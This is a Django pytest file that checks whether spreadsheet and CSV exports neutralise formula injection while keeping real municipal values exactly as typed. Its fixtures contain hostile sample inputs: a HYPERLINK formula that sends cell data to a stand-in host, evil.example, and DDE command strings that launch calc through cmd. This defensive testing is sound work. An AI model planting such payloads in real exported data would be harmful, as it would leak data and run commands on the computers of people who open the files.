"""Every export, with formula-like names and values, read back: no formula cells, no CSV field a spreadsheet
would execute, and the real values exactly as written (issue 14, defect 4)."""

import csv
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from benefits.models import EconomicPlan
from core import roles
from core.exports import csv_field, csv_unescape
from tests.factories import (
    BenefitFactory,
    BenefitPlanYearFactory,
    ProgrammeFactory,
    ProjectFactory,
    SubProgrammeFactory,
    UserFactory,
)
from tests.scorecards.factories import IndicatorFactory, ScorecardFactory, indicator_value

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klikk")'
FORMULAS = [
    HYPERLINK,
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "#N/A",
]
# Values municipalities really write, which must come back exactly as typed.
REAL_VALUES = ["-21 %", "<205", "-500", "-4,5", "98 %", "Ikke målt"]
CSV_TRIGGERS = ("=", "+", "-", "@")
PLAIN_NUMBER = re.compile(r"[+-]?\s*\d[\d\s.,\u00a0]*(\s*%)?")


def assert_no_formulas(data: bytes) -> list[list[object]]:
    """Every sheet's XML has no formula element and no cell openpyxl reads as a formula; returns the values."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
                assert 't="e"' not in xml, name
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
            values.append([cell.value for cell in row])
    return values


def assert_csv_is_inert(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    for row in rows:
        for field in row:
            assert not field.startswith(("\t", "\r")), field
            stripped = field.lstrip()
            assert not stripped.startswith(CSV_TRIGGERS) or PLAIN_NUMBER.fullmatch(stripped), field
    return rows


def all_text(values: list[list[object]]) -> set[object]:
    return {value for row in values for value in row}


@pytest.fixture
def world(role_user):
    executive = role_user(roles.EXECUTIVE, username="direktor")
    programme = ProgrammeFactory(name="Utvikling og bærekraft")
    EconomicPlan.objects.create(programme=programme, start_year=2026, years=2)
    sub = SubProgrammeFactory(programme=programme, name="=1+1")
    leader = UserFactory(first_name="=cmd|' /C calc'!A0", last_name="@SUM(1)")
    projects = []
    for index, name in enumerate(FORMULAS):
        project = ProjectFactory(
            sub_programme=sub,
            name=name,
            need=HYPERLINK,
            leader=leader,
            cost_estimate=1_000_000 + index,
        )
        projects.append(project)
    benefit = BenefitFactory(project=projects[0], title="@SUM(1+1)*cmd|' /C calc'!A0", kind="reduced_cost")
    BenefitPlanYearFactory(benefit=benefit, year=2026, planned=Decimal(500_000), realised=None)
    scorecard = ScorecardFactory(title="=Målekort", owner=executive)
    for index, name in enumerate(FORMULAS):
        indicator = IndicatorFactory(
            scorecard=scorecard, area="+Område", perspective="-Perspektiv", name=name
        )
        indicator_value(indicator, 2024 + index % 2, REAL_VALUES[index % 3], REAL_VALUES[3 + index % 3])
    return {"executive": executive, "programme": programme, "scorecard": scorecard}


def test_register_export_writes_names_as_text(client, world):
    client.force_login(world["executive"])
    values = assert_no_formulas(client.get(reverse("programmes:project_export")).content)
    assert set(FORMULAS) <= all_text(values)
    assert {"=cmd|' /C calc'!A0 @SUM(1)", HYPERLINK} <= all_text(values)
    assert 1_000_000 in all_text(values)  # money stays a number


def test_portfolio_overview_export_writes_names_as_text(client, world):
    client.force_login(world["executive"])
    values = assert_no_formulas(client.get(reverse("portfolio:overview_export")).content)
    assert set(FORMULAS) | {"=1+1"} <= all_text(values)


def test_gain_plan_export_and_its_template_write_names_as_text(client, world, tmp_path):
    client.force_login(world["executive"])
    programme = world["programme"]
    exported = assert_no_formulas(client.get(reverse("benefits:benefit_export", args=[programme.pk])).content)
    assert "@SUM(1+1)*cmd|' /C calc'!A0" in all_text(exported)
    assert 500_000 in all_text(exported)
    template = assert_no_formulas(
        client.get(reverse("benefits:benefit_template", args=[programme.pk])).content
    )
    # The guide sheet lists the projects by the labels the import reads (similar names with the sub-programme).
    assert {HYPERLINK, "+1+2", "#N/A", "=1+1 / =1+1"} <= all_text(template)
    call_command("export_benefits", str(tmp_path / "plan.xlsx"), "--programme", programme.name)
    assert assert_no_formulas((tmp_path / "plan.xlsx").read_bytes()) == exported


def test_scorecard_exports_write_names_as_text_and_values_as_typed(client, world, tmp_path):
    client.force_login(world["executive"])
    url = reverse("scorecards:scorecard_export", args=[world["scorecard"].pk])
    values = assert_no_formulas(client.get(url).content)
    assert set(FORMULAS) | set(REAL_VALUES) | {"+Område", "-Perspektiv"} <= all_text(values)

    rows = assert_csv_is_inert(client.get(url + "?format=csv").content)
    fields = {field for row in rows for field in row}
    assert set(REAL_VALUES) <= fields
    assert {csv_unescape(field) for field in fields} >= set(FORMULAS) | {"+Område", "-Perspektiv"}

    call_command("export_scorecard", "--title", "=Målekort", str(tmp_path / "m.csv"))
    assert assert_csv_is_inert((tmp_path / "m.csv").read_bytes()) == rows
    call_command("export_scorecard", "--title", "=Målekort", str(tmp_path / "m.xlsx"))
    assert assert_no_formulas((tmp_path / "m.xlsx").read_bytes()) == values

    template = assert_no_formulas(client.get(reverse("scorecards:import_template")).content)
    assert {"<205", "1,75 %"} <= all_text(template)


def test_a_scorecard_csv_export_imports_back_unchanged(tmp_path):
    """The apostrophe that neutralises `=1+1` in the CSV is taken off again by the import."""
    scorecard = ScorecardFactory(title="Økonomi")
    for name in ("=1+1", "@SUM(1)", "-Tjenester", HYPERLINK):
        indicator = IndicatorFactory(scorecard=scorecard, area="+Område", name=name, direction="lower")
        indicator_value(indicator, 2025, "-21 %", "<205")
    path = tmp_path / "m.csv"
    call_command("export_scorecard", "--title", "Økonomi", str(path))
    out = io.StringIO()
    call_command("import_scorecard", str(path), "--title", "Økonomi", stdout=out)
    assert "0 nye, 0 endrede og 4 uendrede indikatorer; 0 nye, 0 endrede" in out.getvalue()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("  @SUM(1)", "'  @SUM(1)"),
        ("\r=1", "'\r=1"),
        ("-2+3", "'-2+3"),
        ("+47 22 00 00 00", "+47 22 00 00 00"),
        ("-21 %", "-21 %"),
        ("-500", "-500"),
        ("-", "-"),
        ("<205", "<205"),
        (-500, "-500"),
        (None, ""),
    ],
)
def test_csv_field_neutralises_what_a_spreadsheet_would_run(value, written):
    assert csv_field(value) == written
    assert csv_unescape(written) == ("" if value is None else str(value))
